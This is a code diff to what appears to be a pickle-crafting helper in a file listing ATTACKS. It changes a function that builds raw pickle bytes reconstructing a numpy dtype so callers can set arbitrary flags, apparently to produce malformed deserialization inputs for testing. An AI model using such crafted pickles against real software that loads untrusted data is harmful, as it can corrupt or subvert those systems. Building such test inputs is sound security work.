@@ -78,8 +78,8 @@ ATTACKS = {
 PADDED = number(16)
 
 
-def dtype(code, size=-1):
-    flags = 63 if code == "O8" else 0
+def dtype(code, size=-1, flags=None):
+    flags = flags if flags is not None else 63 if code == "O8" else 0
     state = number(3) + text("<") + b"NNN" + number(size) + number(-1) + number(flags)
     made = named("numpy", "dtype") + text(code) + b"\x89\x88\x87R"
     return made + b"(" + state + b"tb"
